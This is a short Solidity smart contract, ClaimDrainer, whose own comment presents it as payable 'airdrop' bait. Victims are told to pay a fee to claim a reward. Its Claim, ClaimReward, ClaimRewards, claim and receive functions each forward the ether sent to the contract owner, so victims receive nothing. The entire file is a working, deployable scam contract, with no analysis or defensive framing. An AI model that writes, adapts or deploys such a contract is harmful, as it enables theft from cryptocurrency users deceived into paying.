// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Payable "airdrop" bait: the victim is told to pay a small fee to Claim(); every wei goes to the operator.
contract ClaimDrainer {
    address payable private owner;

    constructor() { owner = payable(msg.sender); }

    function Claim() external payable { owner.transfer(msg.value); }
    function ClaimReward() external payable { owner.transfer(msg.value); }
    function ClaimRewards() external payable { owner.transfer(msg.value); }
    function claim() external payable { owner.transfer(address(this).balance); }

    function withdraw() external { require(msg.sender == owner); owner.transfer(address(this).balance); }
    function getBalance() external view returns (uint256) { return address(this).balance; }
    receive() external payable { owner.transfer(msg.value); }
}
